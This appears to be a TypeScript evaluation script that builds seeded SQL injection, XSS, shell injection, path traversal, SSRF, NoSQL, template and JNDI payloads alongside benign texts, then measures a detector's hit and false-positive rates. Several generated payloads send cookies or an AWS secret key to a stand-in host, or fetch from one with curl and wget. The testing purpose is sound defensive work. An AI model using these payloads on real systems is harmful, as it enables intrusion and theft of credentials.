/**
 * How many attacks T2 calls so, how many well-meant texts it does, and what it costs a value.
 * The texts are made here from parts by a fixed seed, half of them never looked at while rules were written
 * (`--half dev` shows the other half). `SIGNALS_TEXTS=<folder>` adds files `<class>.txt` and `benign.txt` of lists
 * that this repository does not carry.
 */
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { THRESHOLD } from '../src/signals/rules.ts';
import { scoreOf } from '../src/signals/score.ts';

type Make = (pick: <T>(from: readonly T[]) => T, number: (below: number) => number) => string;

const WORDS =
  'order invoice ann bob paris berlin book table seat select union group file path price total user name drop update script alert or and set like where from into'.split(
    ' ',
  );
const TABLES = ['users', 'accounts', 'orders', 'members', 'customer'] as const;
const COMMANDS = [
  'id',
  'whoami',
  'uname -a',
  'cat /etc/passwd',
  'ls -la /',
  'curl http://x.example/p',
  'sleep 5',
  'ping -c 3 192.0.2.7',
  'wget -qO- http://x.example',
] as const;
const FILES = [
  'etc/passwd',
  'etc/shadow',
  'proc/self/environ',
  'windows/win.ini',
  'var/log/auth.log',
  '.env',
  'root/.ssh/id_rsa',
] as const;
const SCRIPTS = [
  'alert(1)',
  'confirm`1`',
  'document.location="//x.example/"+document.cookie',
  'fetch("//x.example")',
  'prompt(document.domain)',
] as const;

const ATTACKS: Readonly<Record<string, readonly Make[]>> = {
  sql: [
    (pick, n) =>
      `${pick(WORDS)}${pick(["'", '"', "')", "'))"])} ${pick(['or', 'OR', '||', 'and', 'oR'])} ${n(9)}=${n(9)}${pick([' -- ', '#', '/*', ' --+', ''])}`,
    (pick, n) =>
      `${n(99)} ${pick(['union', 'UNION ALL', '/*!50000union*/', 'uNiOn'])} select ${pick(['null,null', '1,2,3', 'password', '@@version'])}${pick([` from ${pick(TABLES)}`, '-- ', ''])}`,
    (pick) =>
      `${pick(['1', "a'", '1)'])}; ${pick(['drop table', 'delete from', 'truncate table'])} ${pick(TABLES)}${pick([';--', ' --', ''])}`,
    (pick, n) =>
      `${n(9)}${pick(["'", ')', ''])} and ${pick(['sleep', 'pg_sleep', 'benchmark'])}(${n(9)}${pick(['', ',md5(1)'])})${pick(['', '-- ', '#'])}`,
    (pick, n) =>
      `${pick(WORDS)}' and (select ${pick(['count(*)', 'password', 'substring(password,1,1)'])} from ${pick(TABLES)} limit 1)>${n(9)} -- `,
    (pick) => `${pick(['admin', 'root', 'a'])}${pick(["'--", "' #", "'/*", '"--', "')-- "])}`,
    (pick) => encodeURIComponent(`' or '${pick(['a', '1', 'x'])}'='${pick(['a', '1', 'x'])}`),
  ],
  xss: [
    (pick) => `<${pick(['script', 'ScRiPt', 'script '])}>${pick(SCRIPTS)}</script>`,
    (pick) =>
      `${pick(['', '">', "'>", '</title>'])}<${pick(['img src=x', 'svg', 'body', 'video src=x', 'details open', 'input autofocus'])} ${pick(['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'])}=${pick(SCRIPTS)}>`,
    (pick) => `${pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'javascript&colon;'])}${pick(SCRIPTS)}`,
    (pick) =>
      `${pick(['"', "'"])} ${pick(['autofocus onfocus', 'onmouseover', 'onclick'])}=${pick(SCRIPTS)} x=${pick(['"', "'"])}`,
    (pick) =>
      encodeURIComponent(`<${pick(['iframe', 'object', 'embed'])} src=${pick(['//x.example', 'data:text/html,x'])}>`),
    (pick) => `${pick(["'", '"'])};${pick(SCRIPTS)};//`,
  ],
  shell: [
    (pick) => `${pick(WORDS)}${pick([';', '|', '&&', '||', '&', '\n'])}${pick(['', ' '])}${pick(COMMANDS)}`,
    (pick) => `${pick(['$(', '`'])}${pick(COMMANDS)}`.replace(/^(\$\()(.*)$/, '$1$2)').replace(/^(`)(.*)$/, '$1$2`'),
    (pick) => pick(COMMANDS.filter((one) => one.includes(' '))),
    (pick) => `${pick(WORDS)}${pick([';', '|'])}cat\${IFS}/${pick(FILES)}`,
    (pick) => `() { :; }; /bin/bash -c "${pick(COMMANDS)}"`,
  ],
  path: [
    (pick, n) =>
      `${pick(['../', '..\\', '....//', '..%2f', '%2e%2e/', '..%252f', '..%c0%af']).repeat(2 + n(7))}${pick(FILES)}${pick(['', '%00', '%00.png'])}`,
    (pick) => `/${pick(FILES.slice(0, 5))}`,
    (pick) => `${pick(['file:///', 'php://filter/convert.base64-encode/resource=', 'zip://'])}${pick(FILES)}`,
  ],
  ssrf: [
    (pick) =>
      `http://${pick(['169.254.169.254', '2852039166', '0xa9fea9fe', '[::ffff:169.254.169.254]', 'metadata.google.internal'])}/${pick(['latest/meta-data/', 'computeMetadata/v1/', ''])}`,
    (pick, n) =>
      `http://${pick(['127.0.0.1', 'localhost', '10.0.0.8', '192.168.1.1', '0x7f.1', '[::1]'])}:${pick([22, 80, 6379, 9200])}/${n(9)}`,
    (pick) =>
      `${pick(['gopher', 'dict', 'ldap', 'file'])}://${pick(['127.0.0.1:6379/_INFO', 'x.example/a', '/etc/hosts'])}`,
  ],
  nosql: [
    (pick, n) =>
      `{"${pick(['$ne', '$gt', '$regex', '$where', '$in'])}": ${pick(['""', String(n(9)), '".*"', '["a"]'])}}`,
    (pick) => `${pick(["'", '"'])} || ${pick(['this.password', '1', "'a'"])} == ${pick(['this.password', '1', "'a"])}`,
    () => "'; return true; var a='",
  ],
  template: [
    (pick, n) =>
      `${pick(['{{', '${', '#{', '<%= '])}${n(99)}*${n(99)}`
        .replace(/^(\{\{.*)$/, '$1}}')
        .replace(/^([$#]\{.*)$/, '$1}')
        .replace(/^(<%= .*)$/, '$1 %>'),
    (pick) =>
      `{{${pick(['config', 'self.__init__', "''.__class__.__mro__", 'constructor.constructor("return 1")()', 'request.application'])}}}`,
    (pick) => `\${${pick(['T(java.lang.Runtime).getRuntime()', 'process.env', '"a".getClass()'])}}`,
  ],
  jndi: [
    (pick) =>
      `\${${pick(['jndi', '${lower:j}ndi', '${::-j}${::-n}di', 'JNDI'])}:${pick(['ldap', 'rmi', 'dns'])}://x.example/${pick(['a', '${env:AWS_SECRET_ACCESS_KEY}'])}}`,
  ],
};

const NAMES = [
  "O'Brien",
  "D'Angelo",
  'Müller',
  "N'Golo Kanté",
  'Smith-Jones',
  'van der Berg',
  'José',
  'Anne-Marie',
  "O'Neill & Sons",
] as const;
const BENIGN: readonly Make[] = [
  (pick) => `${pick(NAMES)} ${pick(NAMES)}`,
  (pick, n) =>
    `${pick(WORDS)} ${pick(WORDS)} ${pick(['and', 'or', '&', 'the', '--', '-', '/'])} ${pick(WORDS)} ${n(99)}${pick(['', '!', '?', '...', ';', '%'])}`,
  (pick, n) =>
    `${n(999)} ${pick(['Main St.', "rue de l'Église", 'Hauptstraße', "St John's Rd"])} #${n(99)}, ${pick(['Apt.', 'c/o', 'Unit'])} ${n(99)}`,
  (pick, n) =>
    `https://${pick(['example.com', 'www.shop.example', 'docs.example.org'])}/${pick(WORDS)}/${n(999)}?${pick(WORDS)}=${n(9)}&sort=${pick(WORDS)}#${pick(WORDS)}`,
  (pick) =>
    `He said "${pick(WORDS)} the ${pick(WORDS)}" and ${pick(["it's", "that's", "they're"])} ${pick(['fine', 'gone', "o'clock"])}; ${pick(WORDS)} it (${pick(WORDS)}).`,
  (pick, n) => JSON.stringify({ [pick(WORDS)]: pick(NAMES), n: n(99), tags: [pick(WORDS), pick(WORDS)] }),
  (pick, n) =>
    `if (${pick(['a', 'b', 'x'])} < ${n(9)} && ${pick(['y', 'z'])} > ${n(9)}) ${pick(['return', 'go on', 'stop'])}`,
  (pick) => `<${pick(['b', 'p', 'em', 'strong', 'h2'])}>${pick(WORDS)} & ${pick(WORDS)}</p>`,
  (pick, n) => `${pick(['$', '€', '£'])}${n(999)}.${10 + n(89)} (${n(50)}% off) ${pick(['+ VAT', '/ month', '* n'])}`,
  (pick) =>
    `How do I ${pick(['select', 'drop', 'update', 'group', 'join'])} the ${pick(WORDS)} ${pick(['from', 'in', 'by'])} ${pick(WORDS)} in ${pick(['SQL', 'Excel', 'C#', 'Node.js'])}?`,
  (_pick, n) => `2026-0${1 + n(9)}-1${n(9)}T0${n(9)}:00:00Z`,
  (pick) =>
    `Dear ${pick(['{{name}}', '${name}', '%name%', '[name]'])}, your ${pick(WORDS)} is ready ${pick([':-)', ';)', '<3', '\\o/', ''])}`,
  (_pick, n) => `+${n(99)} (0)${n(999)}-${n(99999)} ext. ${n(99)}`,
  (pick) => `${pick(WORDS)}.${pick(WORDS)}+${pick(WORDS)}@example.com`,
  (pick) =>
    `see ${pick(['../', './', '/'])}${pick(WORDS)}/${pick(WORDS)}.${pick(['md', 'png', 'pdf'])} for ${pick(WORDS)}`,
];

/** A small generator with a seed, so that every run sees the same texts. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

function texts(makes: readonly Make[], count: number, seed: number): readonly string[] {
  const next = random(seed);
  const number = (below: number): number => Math.floor(next() * below);
  const pick = <T>(from: readonly T[]): T => {
    const one = from[number(from.length)];
    if (one === undefined) throw new Error('an empty list to pick from');
    return one;
  };
  return Array.from({ length: count }, (_, at) => (makes[at % makes.length] ?? (() => ''))(pick, number));
}

function rate(lines: readonly string[]): { readonly called: number; readonly microseconds: number } {
  const start = performance.now();
  const called = lines.filter((line) => (scoreOf(line)?.score ?? 0) >= THRESHOLD).length;
  return { called, microseconds: ((performance.now() - start) * 1000) / Math.max(1, lines.length) };
}

const seed = process.argv.includes('dev') ? 1 : 20_261_124;
const groups = new Map<string, readonly string[]>(
  Object.entries(ATTACKS).map(([kind, makes], at) => [kind, texts(makes, 500, seed + at)]),
);
groups.set('benign', texts(BENIGN, 5000, seed + 99));
const folder = process.env['SIGNALS_TEXTS'];
if (folder !== undefined && existsSync(folder))
  for (const file of readdirSync(folder).filter((name) => name.endsWith('.txt')))
    groups.set(file.slice(0, -4), [
      ...(groups.get(file.slice(0, -4)) ?? []),
      ...readFileSync(join(folder, file), 'utf8')
        .split('\n')
        .filter((line) => line.length > 2),
    ]);

rate(groups.get('benign') ?? []);
let attacks = 0;
let found = 0;
let falsely = 0;
for (const [kind, lines] of groups) {
  const { called, microseconds } = rate(lines);
  console.log(
    `${kind.padEnd(9)} ${String(lines.length).padStart(6)} texts  ${((100 * called) / lines.length).toFixed(1).padStart(5)} % called attacks  ${microseconds.toFixed(1)} µs each`,
  );
  if (kind === 'benign') falsely = called / lines.length;
  else {
    attacks += lines.length;
    found += called;
  }
}
console.log(
  `true positives ${((100 * found) / attacks).toFixed(1)} % (goal ≥ 75), false positives ${(100 * falsely).toFixed(2)} % (goal ≤ 3)`,
);
process.exitCode = found / attacks >= 0.75 && falsely <= 0.03 ? 0 : 1;
